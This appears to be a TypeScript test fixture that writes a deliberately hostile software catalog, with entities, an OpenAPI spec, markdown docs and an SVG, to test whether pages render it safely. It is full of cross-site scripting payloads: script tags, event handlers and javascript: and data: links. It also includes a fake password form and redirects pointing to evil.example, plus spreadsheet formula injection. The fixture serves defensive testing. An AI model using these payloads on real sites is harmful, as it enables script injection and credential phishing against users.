import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Says that it ran, if it ever does. */
export const SCRIPT = `<script>alert(1)</script><img src=x onerror=alert(2)>"'><svg onload=alert(3)>`;
export const LONG = 'W'.repeat(10_000);
/** Written from the right, turned round, invisible, wide, and piled up. */
export const STRANGE = `\u202eesrever\u202c \u0627\u0644\u0645\u062f\u0641\u0648\u0639\u0627\u062a \u05ea\u05e9\u05dc\u05d5\u05de\u05d9\u05dd zero\u200b\u200d\u2060\ufeffwidth ${'👩‍👩‍👧‍👦'.repeat(40)} Z${'\u0351\u036b\u0343\u036a'.repeat(3)}algo`;
const FORMULA = '=HYPERLINK("https://evil.example")';

/** The folder's own name is text on pages as well. */
export const FOLDER = 'hostile <img src=x onerror=alert(4)>';

const annotations = { 'evil.example/text': SCRIPT, 'evil.example/long': LONG };

function entity(kind: string, name: string, metadata: object, spec: object): string {
  const apiVersion = 'backstage.io/v1alpha1';
  return JSON.stringify({ apiVersion, kind, metadata: { namespace: 'hostile', name, ...metadata }, spec });
}

const component = (name: string, metadata: object, spec: object = {}) =>
  entity('Component', name, metadata, { type: 'service', lifecycle: 'production', owner: 'group:hostile/owners', system: 'hostile/system', providesApis: ['open-api', 'text-api'], ...spec });

const OPENAPI = {
  openapi: '3.0.3',
  info: { title: SCRIPT, version: '<b>1</b>', description: `${SCRIPT}\n\n[link](javascript:alert(5)) ![image](https://evil.example/a.png)\n\n<iframe src="https://evil.example"></iframe>`, contact: { url: 'javascript:alert(6)', name: SCRIPT } },
  servers: [{ url: 'javascript:alert(7)', description: SCRIPT }],
  paths: {
    [`/${'deep/'.repeat(200)}<img src=x onerror=alert(8)>`]: {
      get: {
        operationId: SCRIPT,
        summary: LONG,
        description: `${STRANGE}\n\n<a href="javascript:alert(9)" onclick="alert(10)">x</a>`,
        tags: [SCRIPT],
        parameters: [{ name: SCRIPT, in: 'query', description: SCRIPT, schema: { type: 'string', enum: [SCRIPT, LONG, STRANGE], default: SCRIPT } }],
        responses: { '200': { description: SCRIPT, content: { 'text/html': { schema: { $ref: '#/components/schemas/Evil' }, example: SCRIPT } } } },
      },
    },
  },
  components: { schemas: { Evil: { type: 'object', description: SCRIPT, properties: { [SCRIPT]: { type: 'string', description: LONG }, [STRANGE]: { $ref: '#/components/schemas/Evil' } } } } },
};

const DOCS = `# ${SCRIPT.replace('<img', '<img alt=""')}

<script>alert(11)</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(12)"><button>Sign in</button></form>
<a href="javascript:alert(13)" onclick="alert(14)">html link</a>
<a href="java&#115;cript:alert(15)">entity link</a>
<img src="x" onerror="alert(16)" alt="broken">
<svg><animate onbegin="alert(17)" attributeName="x" dur="1s"/><a href="javascript:alert(18)"><text>svg</text></a></svg>
<div style="position: fixed; inset: 0; z-index: 9999">over everything</div>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">

[a link](javascript:alert(19)) and [data](data:text/html,<script>alert(20)</script>) and [vb](vbscript:alert(21))

![a drawing](drawing.svg)

![a tracker](https://evil.example/pixel.png)

${STRANGE}

${LONG}

| ${Array.from({ length: 30 }, (_, at) => `column ${at}`).join(' | ')} |
|${'---|'.repeat(30)}
| ${Array.from({ length: 30 }, () => SCRIPT.replace('<img', '<img alt=""')).join(' | ')} |

\`\`\`html
${SCRIPT}
${LONG}
\`\`\`
`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="40" onload="alert(22)"><script>alert(23)</script><rect width="20000" height="40" fill="#888"/><image href="https://evil.example/a.png"/><a href="javascript:alert(24)"><text y="20">press</text></a></svg>`;

/** Writes a catalog that tries to run scripts, to leave the page, and to break its layout, and has it read. */
export function registerHostile(dir: string, read: (location: string, ...flags: string[]) => void): void {
  const folder = join(dir, FOLDER);
  mkdirSync(join(folder, 'docs'), { recursive: true });
  const documents = [
    entity('Group', 'owners', { title: LONG }, { type: 'team', children: [], profile: { displayName: SCRIPT, email: 'javascript:alert(25)', picture: 'javascript:alert(26)' } }),
    entity('System', 'system', { title: SCRIPT }, { owner: 'group:hostile/owners' }),
    component('script', {
      title: SCRIPT,
      description: `${SCRIPT}\n\n[x](javascript:alert(27))`,
      annotations: { ...annotations, 'backstage.io/techdocs-ref': 'dir:.' },
      links: [
        { url: 'javascript:alert(28)', title: 'script link' },
        { url: 'data:text/html,<script>alert(29)</script>', title: 'data link' },
        { url: 'https://evil.example/', title: SCRIPT },
      ],
    }, { type: SCRIPT, lifecycle: SCRIPT, dependsOn: ['component:hostile/long', 'component:hostile/strange', 'component:hostile/formula'] }),
    component('long', { title: LONG, description: LONG }, { type: LONG, lifecycle: LONG }),
    component('strange', { title: STRANGE, description: STRANGE }, { type: STRANGE, lifecycle: STRANGE }),
    component('formula', { title: FORMULA, description: '+1+1|calc' }),
    entity('API', 'open-api', { title: SCRIPT, description: SCRIPT }, { type: 'openapi', lifecycle: 'production', owner: 'group:hostile/owners', definition: JSON.stringify(OPENAPI) }),
    entity('API', 'text-api', { title: STRANGE }, { type: 'graphql', lifecycle: 'production', owner: 'group:hostile/owners', definition: `</pre></code>${SCRIPT}\n${LONG}` }),
  ];
  writeFileSync(join(folder, 'catalog-info.yaml'), documents.join('\n---\n'));
  writeFileSync(join(folder, '<img src=x onerror=alert(30)>.yaml'), component('broken', { [SCRIPT]: SCRIPT }, { owner: [SCRIPT] }));
  writeFileSync(join(folder, 'mkdocs.yml'), JSON.stringify({ site_name: SCRIPT, nav: [{ [SCRIPT]: 'index.md' }] }));
  writeFileSync(join(folder, 'docs', 'index.md'), DOCS);
  writeFileSync(join(folder, 'docs', 'drawing.svg'), SVG);
  // Groups come from trusted locations alone.
  read(folder, '--trust-org');
}
